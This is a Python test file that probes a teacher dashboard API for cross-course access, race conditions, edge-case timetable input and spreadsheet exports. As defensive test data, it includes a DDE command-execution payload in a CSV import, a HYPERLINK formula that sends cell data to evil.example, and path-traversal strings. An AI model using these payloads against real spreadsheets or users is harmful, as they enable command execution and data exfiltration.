"""Breaking the teacher dashboard's newer endpoints (issue 16): another course's ids in a
course's URL, double taps at once, timetable input at the edges, the report files."""

from __future__ import annotations

import asyncio
import csv
import io

import openpyxl

from bot.web.dashboard import API_PREFIX
from services.models import UserProfile
from tests.conftest import ADMIN_ID, TEACHER_ID
from tests.support.dashboard import seed_course
from tests.web.test_dashboard_api import OTHER_TEACHER, Desk, _course, desk

__all__ = ["desk"]


async def test_an_excuse_of_another_course_is_not_decided_through_this_courses_url(
    desk: Desk,
) -> None:
    seeded = await _course(desk)
    other = await seed_course(
        desk.services, TEACHER_ID, "Other", students=0, sessions=0, first_student=1
    )
    student, session = seeded.students[1], seeded.sessions[0]
    submitted = await desk.services.excuses.submit(student, session, "Doctor", None)
    request_id = submitted.request.id
    misplaced = await desk.post(
        f"/courses/{other.course.id}/excuses/{request_id}", json={"approve": False}
    )
    assert misplaced.status_code == 404
    # Nothing was decided: the request still waits in its own course's queue.
    queue = await desk.json(f"/courses/{seeded.course.id}/excuses")
    assert [r["id"] for r in queue["requests"]] == [request_id]


async def test_two_days_skipped_at_once_are_both_skipped(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    base = f"{API_PREFIX}/courses/{seeded.course.id}/timetable"
    auth = desk.auth(TEACHER_ID)
    answers = await asyncio.gather(
        desk.http.put(f"{base}/holidays/2026-04-02", headers=auth),
        desk.http.put(f"{base}/holidays/2026-04-09", headers=auth),
    )
    assert all(a.status_code == 200 for a in answers)
    assert (await desk.json(f"/courses/{seeded.course.id}/timetable"))["holidays"] == [
        "2026-04-02",
        "2026-04-09",
    ]


async def test_two_classes_added_at_once_are_both_kept(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    course_id = seeded.course.id
    base = f"{API_PREFIX}/courses/{course_id}/timetable"
    answers = await asyncio.gather(
        desk.http.post(
            f"{base}/slots",
            headers=desk.auth(TEACHER_ID),
            json={"weekday": 0, "start": "10:00", "minutes": 90},
        ),
        desk.http.post(
            f"{base}/slots",
            headers=desk.auth(TEACHER_ID),
            json={"weekday": 2, "start": "12:00", "minutes": 90},
        ),
    )
    assert all(a.status_code == 200 for a in answers)
    slots = (await desk.json(f"/courses/{course_id}/timetable"))["slots"]
    assert [s["weekday"] for s in slots] == [0, 2]


async def test_timetable_input_at_the_edges_is_a_400_never_a_500(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    base = f"{API_PREFIX}/courses/{seeded.course.id}/timetable"
    auth = desk.auth(TEACHER_ID)
    edges = [
        ("POST", "slots", {"weekday": 0, "start": "24:00", "minutes": 60}),
        ("POST", "slots", {"weekday": 7, "start": "10:00", "minutes": 60}),
        ("POST", "slots", {"weekday": -1, "start": "10:00", "minutes": 60}),
        ("POST", "slots", {"weekday": 0, "start": "۱۰:۰۰", "minutes": 60}),
        ("POST", "slots", {"weekday": 0, "start": "\u200f10:00", "minutes": 60}),
        ("POST", "slots", {"weekday": 0, "start": "10:00", "minutes": 10**30}),
        ("POST", "slots", {"weekday": 10**30, "start": "10:00", "minutes": 60}),
        ("PUT", "times", {"early_minutes": 10**30, "remind_minutes": 5}),
        ("PUT", "term", {"first_day": "9999-12-01", "last_day": "9999-12-31"}),
        ("PUT", "term", {"first_day": "0001-01-01", "last_day": "0001-12-01"}),
    ]
    for method, path, body in edges:
        answer = await desk.http.request(method, f"{base}/{path}", headers=auth, json=body)
        assert answer.status_code in (200, 400, 422), (path, body, answer.status_code)
    for day in ("9999-12-31", "0001-01-01", "2026-02-30", "2026-03-29"):
        answer = await desk.http.put(f"{base}/holidays/{day}", headers=auth)
        assert answer.status_code in (200, 400), (day, answer.status_code)
    for start in ("24:00", "99:99", "%2e%2e", "10%3A00"):
        answer = await desk.http.delete(f"{base}/slots/0/{start}", headers=auth)
        assert answer.status_code in (200, 400, 404, 422), (start, answer.status_code)
    got = await desk.get(f"/courses/{seeded.course.id}/timetable")
    assert got.status_code == 200, got.text


async def test_a_slot_across_midnight_and_a_far_term_still_answer(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    base = f"{API_PREFIX}/courses/{seeded.course.id}/timetable"
    auth = desk.auth(TEACHER_ID)
    late = await desk.http.post(
        f"{base}/slots", headers=auth, json={"weekday": 6, "start": "23:59", "minutes": 240}
    )
    assert late.status_code == 200, late.text
    far = await desk.http.put(
        f"{base}/term", headers=auth, json={"first_day": "9999-06-01", "last_day": "9999-12-31"}
    )
    assert far.status_code == 400, far.text  # was saved, then every view of it was a 500
    assert (await desk.get(f"/courses/{seeded.course.id}/timetable")).status_code == 200
    assert (await desk.get(f"/courses/{seeded.course.id}/table")).status_code == 200


async def test_a_timetable_csv_with_a_bom_formulas_and_persian_digits(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    base = f"/courses/{seeded.course.id}/timetable"
    content = (
        "\ufeffslot,Mon,10:00,60\n=cmd|'/c calc'!A1\nslot,Tue,۱۰:۰۰,60\n\u200fslot,Wed,11:00,60\n"
    ).encode()
    imported = await desk.post(f"{base}/import", content=content)
    assert imported.status_code == 200, imported.text
    assert {"weekday": 0, "start": "10:00", "minutes": 60} in imported.json()["slots"]
    binary = await desk.post(f"{base}/import", content=bytes(range(256)) * 10)
    assert binary.status_code == 200, binary.text  # was a csv.Error: a 500
    assert binary.json()["saved"] is False


async def test_a_student_name_that_is_a_formula_is_text_in_the_exports(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    course_id = seeded.course.id
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await desk.services.roster.claim(UserProfile(5005, evil, "@x"), course_id, "S1")
    for pid in [5005]:
        await desk.services.records.courses.enrol(course_id, UserProfile(pid, evil, "+1"))
    exported = await desk.get(f"/courses/{course_id}/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell[:1] in "=+-@\t\r" and cell[:1] for cell in cells if "evil" in cell)
    xlsx = await desk.get(f"/courses/{course_id}/export.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "evil" in cell.value:
                    assert cell.data_type == "s" and not cell.value.startswith("="), cell.value


async def test_another_teacher_sees_no_claim_or_timetable_by_guessing(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    course_id = seeded.course.id
    claim = await desk.services.roster.claim(UserProfile(5005, "Ada"), course_id, "S999")
    assert claim.request is not None
    token = await desk.services.roles.invite_teacher(ADMIN_ID)
    assert await desk.services.roles.accept_invite(OTHER_TEACHER, token)
    mine = await seed_course(
        desk.services, OTHER_TEACHER, "Mine", students=0, sessions=0, first_student=1
    )
    for approve in (True, False):
        answer = await desk.post(
            f"/courses/{mine.course.id}/claims/{claim.request.id}",
            OTHER_TEACHER,
            json={"approve": approve},
        )
        assert answer.status_code in (403, 404), answer.text
    assert [c["id"] for c in (await desk.json(f"/courses/{course_id}/claims"))["claims"]] == [
        claim.request.id
    ]
    removed = await desk.http.delete(
        f"{API_PREFIX}/courses/{mine.course.id}/students/{seeded.students[0]}",
        headers=desk.auth(OTHER_TEACHER),
    )
    assert removed.status_code in (403, 404)
    assert len((await desk.json(f"/courses/{course_id}/table"))["students"]) == 1


async def test_a_claim_approved_and_declined_at_once_is_decided_once(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    course_id = seeded.course.id
    claim = await desk.services.roster.claim(UserProfile(5005, "Ada"), course_id, "S999")
    assert claim.request is not None
    url = f"/courses/{course_id}/claims/{claim.request.id}"
    answers = await asyncio.gather(
        desk.post(url, json={"approve": True}), desk.post(url, json={"approve": False})
    )
    codes = sorted(a.status_code for a in answers)
    assert codes[0] == 200 and codes[1] in (404, 409), [a.text for a in answers]
    approved = [a.json()["approved"] for a in answers if a.status_code == 200]
    students = {s["id"] for s in (await desk.json(f"/courses/{course_id}/table"))["students"]}
    assert (5005 in students) == approved[0]


async def test_an_excuse_approved_and_declined_at_once_is_decided_once(desk: Desk) -> None:
    seeded = await _course(desk)
    student, session = seeded.students[1], seeded.sessions[0]
    submitted = await desk.services.excuses.submit(student, session, "Doctor", None)
    url = f"/courses/{seeded.course.id}/excuses/{submitted.request.id}"
    answers = await asyncio.gather(
        desk.post(url, json={"approve": True}), desk.post(url, json={"approve": False})
    )
    assert sorted(a.status_code for a in answers) == [200, 409], [a.text for a in answers]


async def test_ten_classes_added_at_once_from_two_tabs_are_all_kept(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    course_id = seeded.course.id
    base = f"{API_PREFIX}/courses/{course_id}/timetable"
    bodies = [{"weekday": n % 7, "start": f"{8 + n}:00", "minutes": 45} for n in range(10)]
    answers = await asyncio.gather(
        *(desk.http.post(f"{base}/slots", headers=desk.auth(TEACHER_ID), json=b) for b in bodies)
    )
    assert all(a.status_code == 200 for a in answers)
    slots = (await desk.json(f"/courses/{course_id}/timetable"))["slots"]
    assert len(slots) == 10, slots


async def test_a_day_skipped_twice_at_once_stays_skipped(desk: Desk) -> None:
    seeded = await _course(desk, students=1, sessions=1)
    base = f"{API_PREFIX}/courses/{seeded.course.id}/timetable"
    auth = desk.auth(TEACHER_ID)
    answers = await asyncio.gather(
        *(desk.http.put(f"{base}/holidays/2026-04-02", headers=auth) for _ in range(4))
    )
    assert all(a.status_code == 200 for a in answers)
    got = await desk.json(f"/courses/{seeded.course.id}/timetable")
    assert got["holidays"] == ["2026-04-02"]
